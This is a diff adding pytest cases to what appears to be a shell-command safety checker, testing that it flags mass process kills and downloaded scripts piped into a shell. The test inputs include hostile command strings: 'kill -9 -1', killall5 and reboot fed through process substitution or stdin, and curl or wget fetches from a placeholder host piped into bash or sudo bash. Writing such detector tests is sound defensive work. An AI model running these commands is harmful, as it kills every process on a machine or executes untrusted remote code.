@@ -188,3 +188,56 @@ def test_the_pipe_into_xargs_is_a_substitution():
     from forensics.kills import piped_argv
 
     assert piped_argv(chain.steps[0].commands, 1) == ["docker", "kill", "$(docker ps -q)"]
+
+
+@pytest.mark.parametrize(
+    "step",
+    [
+        "source <(echo 'kill -9 -1')",
+        ". <(printf 'killall5\\n')",
+        "bash <(echo reboot)",
+        "sh <(echo 'kill -9 -1')",
+        "bash < <(echo 'kill -9 -1')",
+        "source /dev/stdin <<< 'kill -9 -1'",
+        ". /dev/stdin <<< 'killall5'",
+        "echo 'kill -9 -1' | bash /dev/stdin",
+        "at now <<< 'kill -9 -1'",
+        "echo 'kill -9 -1' | at now",
+        "batch <<< 'reboot'",
+    ],
+)
+def test_scripts_fed_to_a_shell_by_process_substitution_or_stdin(step):
+    assert "mass-kill" in _errors(step), step
+
+
+@pytest.mark.parametrize(
+    "step",
+    [
+        ". <(curl -s http://x/kill.sh)",
+        "source <(curl -fsSL https://x/setup.sh)",
+        "bash <(wget -qO- http://x/k.sh)",
+        "curl -s http://x/k.sh | bash",
+        "curl -s http://x/k.sh | sudo bash -s",
+        "wget -qO- http://x | sh",
+        "bash -c 'curl -s http://x | sh'",
+    ],
+)
+def test_a_downloaded_script_run_by_a_shell_is_refused(step):
+    assert "runs-fetched-script" in _errors(step), step
+    assert "runs-fetched-script" in {f.id for f in replay_blockers(f"{step}\n{SERVER}")}
+
+
+@pytest.mark.parametrize(
+    "step",
+    [
+        "source <(conda shell.bash hook)",  # a local program's output: what it prints is its own
+        "bash <(echo echo hi)",
+        "source ~/.bashrc",
+        ". /etc/profile",
+        "curl -fsSLo setup.sh http://x/setup.sh",
+        "curl -s http://x/health | grep ok",
+        "echo hi | at now",
+    ],
+)
+def test_scripts_read_by_shells_near_misses(step):
+    assert not _errors(step), step
